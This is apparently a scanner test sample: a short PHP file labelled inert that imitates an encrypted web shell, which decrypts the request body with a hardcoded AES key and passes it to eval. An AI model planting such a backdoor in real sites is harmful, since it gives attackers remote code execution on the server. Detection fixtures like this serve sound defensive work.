<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
@error_reporting(0);
session_start();
$key="e45e329feb5d925b";
$_SESSION['k']=$key;
$post=file_get_contents("php://input");
$post=openssl_decrypt($post, "AES128", $key);
class C{public function __invoke($p) {eval($p."");}}
@call_user_func(new C(),$params);
